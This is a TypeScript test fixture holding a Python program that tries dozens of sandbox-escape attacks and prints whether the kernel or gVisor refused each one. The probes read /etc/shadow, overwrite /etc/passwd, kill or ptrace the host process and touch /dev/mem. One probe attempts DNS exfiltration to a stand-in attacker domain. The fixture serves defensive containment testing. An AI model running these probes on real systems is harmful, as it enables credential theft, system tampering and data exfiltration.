/**
 * A Python program that tries one attack per named probe and prints a JSON
 * object {probe: outcome}. Outcomes are "ok:<detail>" when the attempt
 * worked and "err:<ERRNO>" when the kernel (or gVisor) refused it, so a test
 * can assert both that the attack failed and how.
 */
export const PROBE_PROGRAM = `
import ctypes, errno, json, os, platform, socket, sys

libc = ctypes.CDLL(None, use_errno=True)
ARCH = platform.machine()
NR = {
  'x86_64': {'keyctl': 250, 'bpf': 321, 'perf_event_open': 298, 'io_uring_setup': 425, 'userfaultfd': 323,
             'init_module': 175, 'kexec_load': 246, 'open_by_handle_at': 304, 'process_vm_readv': 310, 'add_key': 248,
             'name_to_handle_at': 303, 'personality': 135, 'modify_ldt': 154, 'memfd_secret': 447},
  'aarch64': {'keyctl': 219, 'bpf': 280, 'perf_event_open': 241, 'io_uring_setup': 425, 'userfaultfd': 282,
              'init_module': 105, 'kexec_load': 104, 'open_by_handle_at': 265, 'process_vm_readv': 270, 'add_key': 217,
              'name_to_handle_at': 264, 'personality': 92, 'memfd_secret': 447},
}[ARCH]

def err(e=None):
    code = e.errno if isinstance(e, OSError) else ctypes.get_errno()
    return 'err:' + errno.errorcode.get(code, str(code))

def read(path):
    try:
        with open(path, 'rb') as f:
            return 'ok:' + f.read(200).decode('latin1')
    except OSError as e:
        return err(e)

def listdir(path):
    try:
        return 'ok:' + ','.join(sorted(os.listdir(path))[:20])
    except OSError as e:
        return err(e)

def write(path):
    try:
        with open(path, 'w') as f:
            f.write('pwned')
        return 'ok:written'
    except OSError as e:
        return err(e)

def syscall(name, *args):
    r = libc.syscall(NR[name], *[ctypes.c_long(a) for a in args])
    return 'ok:' + str(r) if r >= 0 else err()

def sock(family, kind, proto=0):
    try:
        socket.socket(family, kind, proto).close()
        return 'ok:created'
    except OSError as e:
        return err(e)

def connect(host, port):
    try:
        socket.create_connection((host, port), timeout=3).close()
        return 'ok:connected'
    except OSError as e:
        return err(e)

def resolve(name):
    try:
        return 'ok:' + str(socket.getaddrinfo(name, 80)[0][4])
    except socket.gaierror as e:
        return 'err:EAI' + str(e.errno)

def contains(path, needle):
    got = read(path)
    if not got.startswith('ok:'):
        return got
    with open(path, 'rb') as f:
        return 'ok:LEAKED' if needle.encode() in f.read() else 'ok:clean'

def kill(pid, sig):
    try:
        os.kill(pid, sig)
        return 'ok:signalled'
    except OSError as e:
        return err(e)

def ptrace_attach(pid):
    r = libc.ptrace(ctypes.c_long(16), ctypes.c_long(pid), None, None)  # PTRACE_ATTACH
    return 'ok:attached' if r == 0 else err()

def ptrace_traceme():
    r = libc.ptrace(ctypes.c_long(0), ctypes.c_long(0), None, None)
    return 'ok:traced' if r == 0 else err()

def name_to_handle_at(path):
    # A real call (AT_FDCWD, a 128-byte handle buffer): allowed, it hands out a handle that
    # open_by_handle_at would turn back into a file without a path walk.
    handle = ctypes.create_string_buffer((128).to_bytes(4, 'little') + bytes(124))
    mount_id = ctypes.c_int()
    r = libc.syscall(NR['name_to_handle_at'], ctypes.c_long(-100), path.encode(), handle, ctypes.byref(mount_id), ctypes.c_long(0))
    return 'ok:handle' if r >= 0 else err()

def personality(persona):
    # Sets the persona and puts the old one back, so later probes (and their children) run as before.
    r = libc.syscall(NR['personality'], ctypes.c_ulong(persona))
    if r < 0:
        return err()
    libc.syscall(NR['personality'], ctypes.c_ulong(r))
    return 'ok:set'

def persona_query():
    r = libc.syscall(NR['personality'], ctypes.c_ulong(0xffffffff))
    return 'ok:' + hex(r) if r >= 0 else err()

def modify_ldt():
    if 'modify_ldt' not in NR:
        return 'err:ENOSYS'  # x86 only: the architecture has no such call
    buf = ctypes.create_string_buffer(16)
    r = libc.syscall(NR['modify_ldt'], ctypes.c_long(0), buf, ctypes.c_long(16))
    return 'ok:' + str(r) if r >= 0 else err()

def mount_tmpfs():
    os.makedirs('/tmp/m', exist_ok=True)
    r = libc.mount(b'none', b'/tmp/m', b'tmpfs', ctypes.c_ulong(0), None)
    return 'ok:mounted' if r == 0 else err()

def unshare(flags):
    # In a child, so a namespace that is granted does not change what later probes see.
    pid = os.fork()
    if pid == 0:
        r = libc.unshare(ctypes.c_int(flags))
        os._exit(0 if r == 0 else ctypes.get_errno())
    code = os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1])
    return 'ok:unshared' if code == 0 else 'err:' + errno.errorcode.get(code, str(code))

def chroot():
    r = libc.chroot(b'/tmp')
    return 'ok:chrooted' if r == 0 else err()

def status(field):
    for line in open('/proc/self/status'):
        if line.startswith(field + ':'):
            return 'ok:' + line.split(':', 1)[1].strip()
    return 'err:missing'

arg = json.loads(sys.argv[1])
canary = arg.get('canary', '')
host_pid = arg.get('hostPid', 1)
probes = {
  'read_shadow': lambda: read('/etc/shadow'),
  'read_passwd': lambda: read('/etc/passwd'),
  'list_root_home': lambda: listdir('/root'),
  'list_home': lambda: listdir('/home'),
  'read_oacp_home': lambda: listdir(arg.get('oacpHome', '/root/.oacp')),
  'read_host_file': lambda: read(arg.get('hostFile', '/etc/hostname')),
  'dotdot_escape': lambda: read(arg.get('granted', '/tmp') + '/../secret.txt'),
  'symlink_escape': lambda: read(arg.get('granted', '/tmp') + '/link-to-secret'),
  'new_symlink_escape': lambda: (os.symlink('/etc/shadow', '/tmp/s'), read('/tmp/s'))[1],
  'write_usr': lambda: write('/usr/bin/oacp-pwned'),
  'write_root': lambda: write('/pwned'),
  'write_etc': lambda: write('/etc/passwd'),
  'write_exe_dir': lambda: write(os.path.dirname(os.path.realpath(sys.executable)) + '/pwned'),
  'write_ungranted': lambda: write(arg.get('ungranted', '/var/tmp/pwned')),
  'write_var': lambda: write('/var/tmp/oacp-pwned'),
  'self_environ': lambda: contains('/proc/self/environ', canary),
  'pid1_environ': lambda: contains('/proc/1/environ', canary),
  'os_environ': lambda: 'ok:LEAKED' if any(canary in v for v in os.environ.values()) else 'ok:clean',
  'pid1_cmdline': lambda: read('/proc/1/cmdline'),
  'see_host_pid': lambda: 'ok:visible' if os.path.exists('/proc/%d' % host_pid) else 'err:ENOENT',
  'kill_host_pid': lambda: kill(host_pid, 9),
  'kill_all': lambda: kill(-1, 0),
  'dev_sda': lambda: read('/dev/sda'),
  'dev_mem': lambda: read('/dev/mem'),
  'dev_kmsg': lambda: read('/dev/kmsg'),
  'sysrq': lambda: write('/proc/sysrq-trigger'),
  'sys_list': lambda: listdir('/sys/class/net'),
  'raw_socket': lambda: sock(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP),
  'packet_socket': lambda: sock(socket.AF_PACKET, socket.SOCK_RAW, 0),
  'vsock_socket': lambda: sock(40, socket.SOCK_STREAM, 0),
  'netlink_dgram': lambda: sock(socket.AF_NETLINK, socket.SOCK_DGRAM, 0),
  'netlink_raw': lambda: sock(socket.AF_NETLINK, socket.SOCK_RAW, 0),
  'socketpair_unix': lambda: (lambda pair: [end.close() for end in pair] and 'ok:created')(socket.socketpair()),
  'direct_tcp': lambda: connect('192.0.2.1', 80),
  'dns_exfil': lambda: resolve('secret-data.x.attacker.test'),
  'ptrace_traceme': ptrace_traceme,
  'ptrace_host': lambda: ptrace_attach(host_pid),
  'personality_no_aslr': lambda: personality(0x0040000),
  'personality_read_exec': lambda: personality(0x0400000),
  'personality_query': persona_query,
  'modify_ldt': modify_ldt,
  'mount': mount_tmpfs,
  'chroot': chroot,
  'unshare_user': lambda: unshare(0x10000000),
  'unshare_net': lambda: unshare(0x40000000),
  'keyctl': lambda: syscall('keyctl', 0, 0, 0, 0),
  'add_key': lambda: syscall('add_key', 0, 0, 0, 0),
  'bpf': lambda: syscall('bpf', 0, 0, 0),
  'perf_event_open': lambda: syscall('perf_event_open', 0, 0, -1, -1, 0),
  'io_uring': lambda: syscall('io_uring_setup', 1, 0),
  'userfaultfd': lambda: syscall('userfaultfd', 0),
  'memfd_secret': lambda: syscall('memfd_secret', 0),
  'init_module': lambda: syscall('init_module', 0, 0, 0),
  'kexec_load': lambda: syscall('kexec_load', 0, 0, 0, 0),
  'open_by_handle_at': lambda: syscall('open_by_handle_at', 0, 0, 0),
  'name_to_handle_at': lambda: name_to_handle_at('/usr'),
  'proc_sys_write': lambda: write('/proc/sys/kernel/sysrq'),
  'cgroup_procs_write': lambda: write('/sys/fs/cgroup/cgroup.procs'),
  'process_vm_readv': lambda: syscall('process_vm_readv', host_pid, 0, 0, 0, 0, 0),
  'cap_eff': lambda: status('CapEff'),
  'no_new_privs': lambda: status('NoNewPrivs'),
  'seccomp_mode': lambda: status('Seccomp'),
  'hostname': lambda: 'ok:' + socket.gethostname(),
  'net_interfaces': lambda: 'ok:' + ','.join(sorted(l.split(':')[0].strip() for l in open('/proc/net/dev').readlines()[2:])),
}
out = {}
for name in arg['probes']:
    try:
        out[name] = probes[name]()
    except Exception as e:  # a probe that crashes is reported, never taken as contained
        out[name] = 'exception:' + type(e).__name__ + ':' + str(e)
print(json.dumps(out))
`;
